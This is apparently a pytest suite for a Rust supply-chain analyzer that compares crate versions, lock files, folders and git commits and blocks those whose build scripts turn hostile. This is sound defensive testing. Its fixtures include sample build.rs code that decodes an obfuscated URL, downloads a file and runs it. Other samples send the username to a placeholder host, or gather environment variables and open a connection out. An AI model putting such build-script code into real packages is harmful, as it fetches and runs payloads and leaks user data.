"""The whole command against a registry on the loopback address: shapes of real attacks, inert."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
from pathlib import Path
from typing import Protocol

import pytest
from dulwich import porcelain

from analyzer.config import DEFAULT_INDEX

CARRIER = """
fn main() {
    let parts = ["aHR0cHM6Ly9j", "YWNoZS5pbnZhbGlkL3g="];
    let address = String::from_utf8(base64::decode(parts.concat()).unwrap()).unwrap();
    let body = ureq::get(&address).call().unwrap().into_string().unwrap();
    let place = std::env::temp_dir().join("rust-setup");
    std::fs::write(&place, body).unwrap();
    std::process::Command::new(&place).spawn().ok();
}
"""
CLEAN = "#[macro_export]\nmacro_rules! array_ref { ($a:expr) => { &$a } }\n"
SENDS_HOST = """
fn main() {
    let who = whoami::username();
    ureq::post("https://chat.invalid/send").send_string(&who).ok();
}
"""
HONEST_SCRIPT = """
fn main() {
    let version = std::process::Command::new("rustc").arg("--version").output();
    println!("cargo:rustc-check-cfg=cfg(modern)");
    if version.is_ok() { println!("cargo:rustc-cfg=modern"); }
}
"""


OWN = """[package]
name = "own"
version = "0.1.0"
[build-dependencies]
ureq = "2"
whoami = "1"
"""


class Done(Protocol):
    code: int
    out: str
    err: str


class Run(Protocol):
    def __call__(self, *arguments: str | Path, stdin: str = "") -> Done: ...


class Shelf(Protocol):
    url: str
    files: dict[str, bytes]


def pack(name: str, version: str, files: dict[str, str], needs: dict[str, str]) -> bytes:
    rows = "".join(f'{one} = "{wanted}"\n' for one, wanted in needs.items())
    manifest = f'[package]\nname = "{name}"\nversion = "{version}"\nedition = "2021"\n[dependencies]\n{rows}'
    used = [one for one in ("ureq", "whoami", "base64") if f"{one}::" in files.get("build.rs", "")]
    manifest += "[build-dependencies]\n" + "".join(f'{one} = "*"\n' for one in used)
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path, text in {"Cargo.toml": manifest, "src/lib.rs": CLEAN, **files}.items():
            member = tarfile.TarInfo(f"{name}-{version}/{path}")
            member.size = len(text)
            tar.addfile(member, io.BytesIO(text.encode()))
    return gzip.compress(packed.getvalue(), mtime=0)


def publish(
    shelf: Shelf,
    label: str,
    files: dict[str, str] | None = None,
    needs: dict[str, str] | None = None,
    at: str = "2020-01-01T00:00:00Z",
) -> str:
    """Add a version to the registry; gives its checksum."""
    name, _, version = label.partition("@")
    data = pack(name, version, files or {}, needs or {})
    checksum = hashlib.sha256(data).hexdigest()
    deps: list[dict[str, object]] = [
        {
            "name": one,
            "req": f"^{wanted}",
            "features": [],
            "optional": False,
            "default_features": True,
            "target": None,
            "kind": "normal",
        }
        for one, wanted in (needs or {}).items()
    ]
    row = {"name": name, "vers": version, "deps": deps, "features": {}, "cksum": checksum}
    line = json.dumps({**row, "yanked": False, "pubtime": at}).encode() + b"\n"
    path = f"/{name[:2]}/{name[2:4]}/{name}"
    shelf.files[path] = shelf.files.get(path, b"") + line
    shelf.files[f"/dl/{name}/{version}/download"] = data
    return checksum


def step(run: Run, shelf: Shelf, *arguments: str) -> tuple[dict[str, object], int]:
    done = run("diff", *arguments, "--registry", shelf.url, "--format", "json", "--quiet")
    assert done.out, done.err
    return json.loads(done.out), done.code


def rules(found: dict[str, object]) -> set[str]:
    findings = found["findings"]
    assert isinstance(findings, dict)
    return {one["rule"] for one in findings["added"]}


@pytest.fixture
def arrayref(shelf: Shelf) -> Shelf:
    """The case of 2026-08-20, rebuilt: a patch release takes up a carrier of that morning."""
    publish(shelf, "arrayish@0.3.9", at="2024-01-01T00:00:00Z")
    publish(shelf, "proc-carrier@1.0.107", {"build.rs": CARRIER}, at="2026-08-20T02:00:00Z")
    needs = {"proc-carrier": "1.0.107"}
    publish(shelf, "arrayish@0.3.10", None, needs, at="2026-08-20T07:15:00Z")
    return shelf


def test_the_arrayref_case_is_blocked(run: Run, arrayref: Shelf) -> None:
    found, code = step(run, arrayref, "arrayish@0.3.9", "0.3.10")

    assert (found["verdict"], code) == ("BLOCK", 20)
    assert {"takes-blocked-dependency", "takes-carrier"} <= rules(found)
    dependencies = found["dependencies"]
    assert isinstance(dependencies, list)
    told = [(one["package"], one["age_days"], one["verdict"]) for one in dependencies]
    assert told == [("proc-carrier", 0, "BLOCK")]


def test_a_carrier_that_is_named_and_carried_by_another_is_still_found(
    run: Run, arrayref: Shelf
) -> None:
    needs, at = {"proc-carrier": "1.0.107"}, "2026-08-20T05:00:00Z"
    publish(arrayref, "wrapping@1.0.0", None, needs, at=at)
    publish(
        arrayref,
        "arrayish@0.3.11",
        {"src/lib.rs": "use wrapping::array_ref;\n"},
        {"wrapping": "1"},
        at="2026-08-20T08:00:00Z",
    )

    found, code = step(run, arrayref, "arrayish@0.3.9", "0.3.11")

    assert code == 20
    assert "takes-blocked-dependency" in rules(found)


def test_clean_then_armed_is_blocked(run: Run, shelf: Shelf) -> None:
    publish(shelf, "steady@1.0.0")
    publish(shelf, "steady@1.0.1", {"build.rs": SENDS_HOST})

    found, code = step(run, shelf, "steady@1.0.0", "steady@1.0.1")

    assert (found["verdict"], code) == ("BLOCK", 20)
    assert "armed-build-code" in rules(found)


def test_an_honest_first_build_script_is_a_note(run: Run, shelf: Shelf) -> None:
    publish(shelf, "steady@1.0.0")
    publish(shelf, "steady@1.0.1", {"build.rs": HONEST_SCRIPT})

    found, code = step(run, shelf, "1.0.0", "steady@1.0.1")

    assert (found["verdict"], code) == ("CLEAR", 0)
    assert rules(found) == {"first-build-script"}


def test_a_drip_is_seen_from_the_version_that_was_approved(run: Run, shelf: Shelf) -> None:
    reads = "pub fn all() -> Vec<(String, String)> { std::env::vars().collect() }\n"
    sends = 'pub fn go() { std::net::TcpStream::connect("192.0.2.7:443").ok(); }\n'
    publish(shelf, "steady@1.0.0")
    publish(shelf, "steady@1.1.0", {"src/lib.rs": reads})
    publish(shelf, "steady@1.2.0", {"src/lib.rs": reads, "src/net.rs": ""})
    publish(shelf, "steady@1.3.0", {"src/lib.rs": f"{reads}mod net;\n", "src/net.rs": sends})

    for since in ("1.0.0", "1.2.0"):
        found, code = step(run, shelf, "steady@1.3.0", "--since", since)
        assert code == 10
        assert "first-way-out-for-secrets" in rules(found)
    assert step(run, shelf, "steady@1.1.0", "--since", "1.0.0")[1] == 0


def test_what_blocks_stays_blocked_though_it_was_there_before(run: Run, shelf: Shelf) -> None:
    publish(shelf, "steady@1.0.1", {"build.rs": SENDS_HOST})
    publish(shelf, "steady@1.0.2", {"build.rs": SENDS_HOST, "src/more.rs": ""})

    found, code = step(run, shelf, "steady@1.0.1", "1.0.2")

    assert (found["alone"], found["verdict"], code) == ("BLOCK", "BLOCK", 20)


def test_two_archives_of_one_version_with_other_bytes_are_blocked(run: Run, tmp_path: Path) -> None:
    paths = []
    for number, text in enumerate(("", "pub fn more() {}\n")):
        path = tmp_path / str(number) / "steady-1.0.0.crate"
        path.parent.mkdir()
        path.write_bytes(pack("steady", "1.0.0", {"src/more.rs": text}, {}))
        paths.append(path)

    done = run("diff", *paths, "--quiet")

    assert done.code == 20
    assert "bytes-changed" in done.out


# Lock files --------------------------------------------------------------------------------------


def lock(path: Path, *packages: tuple[str, str]) -> Path:
    """A lock file of these (`name@version`, checksum)."""
    lines = ["version = 4", "", "[[package]]", 'name = "app"', 'version = "0.1.0"', ""]
    for label, checksum in packages:
        name, _, version = label.partition("@")
        lines += ["[[package]]", f'name = "{name}"', f'version = "{version}"']
        lines += [f'source = "sparse+{DEFAULT_INDEX}"', f'checksum = "{checksum}"', ""]
    path.write_text("\n".join(lines))
    return path


def test_two_lock_files_tell_what_came_went_and_changed(
    run: Run, arrayref: Shelf, tmp_path: Path
) -> None:
    sums = {one: publish(arrayref, one) for one in ("steady@1.0.0", "goner@1.0.0", "comer@1.0.0")}
    files = arrayref.files["/ar/ra/arrayish"].splitlines()
    old_sum, new_sum = (json.loads(one)["cksum"] for one in files)
    carrier = json.loads(arrayref.files["/pr/oc/proc-carrier"])["cksum"]
    steady = ("steady@1.0.0", sums["steady@1.0.0"])
    old = lock(
        tmp_path / "old.lock",
        steady,
        ("goner@1.0.0", sums["goner@1.0.0"]),
        ("arrayish@0.3.9", old_sum),
    )
    new = lock(
        tmp_path / "new.lock",
        steady,
        ("comer@1.0.0", sums["comer@1.0.0"]),
        ("arrayish@0.3.10", new_sum),
        ("proc-carrier@1.0.107", carrier),
    )

    found, code = step(run, arrayref, str(old), str(new))

    rows = {one["name"]: (one["change"], one["verdict"]) for one in found["packages"]}  # type: ignore[attr-defined]  # JSON
    assert code == 20
    assert rows == {
        "arrayish": ("changed", "BLOCK"),
        "proc-carrier": ("added", "BLOCK"),
        "comer": ("added", "CLEAR"),
        "goner": ("removed", "CLEAR"),
    }


def test_another_checksum_of_the_same_version_is_blocked_without_reading(
    run: Run, tmp_path: Path
) -> None:
    old = lock(tmp_path / "old.lock", ("steady@1.0.0", "ab" * 32))
    new = lock(tmp_path / "new.lock", ("steady@1.0.0", "cd" * 32))

    done = run("diff", old, new, "--offline", "--quiet")

    assert done.code == 20
    assert "another checksum" in done.out


def test_what_cannot_be_fetched_is_incomplete(run: Run, tmp_path: Path) -> None:
    old = lock(tmp_path / "old.lock")
    new = lock(tmp_path / "new.lock", ("steady@1.0.0", "cd" * 32))

    assert run("diff", old, new, "--offline", "--quiet").code == 30


@pytest.mark.parametrize("text", ["", "not a lock", "version = 4\n[[package]]\nname = 'x'\n"])
def test_a_broken_lock_file_makes_no_sense_to_compare_with(
    run: Run, tmp_path: Path, text: str
) -> None:
    (tmp_path / "old.lock").write_text(text)
    new = lock(tmp_path / "new.lock", ("steady@1.0.0", "cd" * 32))

    done = run("diff", tmp_path / "old.lock", new, "--offline", "--quiet")

    assert done.code == 2
    assert "old.lock" in done.err


@pytest.mark.parametrize(
    "arguments",
    [("1.0", "1.1"), ("serde@1.0.0",), ("serde@1", "1.1", "--since", "1.0"), ("./x", "1.0")],
)
def test_requests_that_make_no_sense_are_told(run: Run, arguments: tuple[str, ...]) -> None:
    assert run("diff", *arguments, "--offline").code == 2


def test_folders_are_compared_without_a_registry(run: Run, tmp_path: Path) -> None:
    for name, script in (("a", ""), ("b", SENDS_HOST)):
        (tmp_path / name / "src").mkdir(parents=True)
        (tmp_path / name / "Cargo.toml").write_text(OWN)
        (tmp_path / name / "src/lib.rs").write_text("")
        if script:
            (tmp_path / name / "build.rs").write_text(script)

    done = run("diff", tmp_path / "a", tmp_path / "b", "--offline", "--quiet")

    assert done.code == 20
    assert "added: build.rs (build-script)" in done.out


def commit(repository: Path, files: dict[str, str]) -> None:
    for path, text in files.items():
        (repository / path).parent.mkdir(parents=True, exist_ok=True)
        (repository / path).write_text(text)
    porcelain.add(str(repository), [str(repository / one) for one in files])
    who = b"a <a@example.invalid>"
    porcelain.commit(str(repository), message=b"m", author=who, committer=who, sign=False)


def test_a_pull_request_is_judged_by_its_commits(run: Run, arrayref: Shelf, tmp_path: Path) -> None:
    sums = [json.loads(one)["cksum"] for one in arrayref.files["/ar/ra/arrayish"].splitlines()]
    before = lock(tmp_path / "a", ("arrayish@0.3.9", sums[0])).read_text()
    after = lock(tmp_path / "b", ("arrayish@0.3.10", sums[1])).read_text()
    repository = tmp_path / "repository"
    porcelain.init(str(repository)).close()
    commit(repository, {"Cargo.toml": OWN, "src/lib.rs": "", "Cargo.lock": before})
    commit(repository, {"Cargo.lock": after})
    commit(repository, {"build.rs": SENDS_HOST})
    (repository / "src/lib.rs").write_text("not committed")

    found, code = step(run, arrayref, str(repository), "--git", "HEAD~2..HEAD")

    assert code == 20
    rows = {(one["name"], one["verdict"]) for one in found["packages"]}  # type: ignore[attr-defined]  # JSON
    assert rows == {("arrayish", "BLOCK"), ("own", "BLOCK")}
    only, _ = step(run, arrayref, str(repository), "--git", "HEAD~1..")
    assert [one["name"] for one in only["packages"]] == ["own"]  # type: ignore[attr-defined]  # JSON


def test_git_and_a_second_target_make_no_sense(run: Run, tmp_path: Path) -> None:
    assert run("diff", tmp_path, "x@1.0.0", "--git", "a..b").code == 2
    assert run("diff", tmp_path, "--git", "a..b").code == 2


def test_sarif_of_two_folders_names_files_of_the_new_one(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, script in (("old", "fn main() {}"), ("new", SENDS_HOST)):
        (tmp_path / name / "src").mkdir(parents=True)
        (tmp_path / name / "src/lib.rs").write_text("")
        (tmp_path / name / "Cargo.toml").write_text(OWN)
        (tmp_path / name / "build.rs").write_text(script)
    monkeypatch.chdir(tmp_path)
    done = run("diff", "./old", "./new", "--quiet", "--format", "sarif", "--offline")
    (log,) = json.loads(done.out)["runs"]
    uris = {
        one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for one in log["results"]
    }
    assert done.code == 20
    assert "new/build.rs" in uris
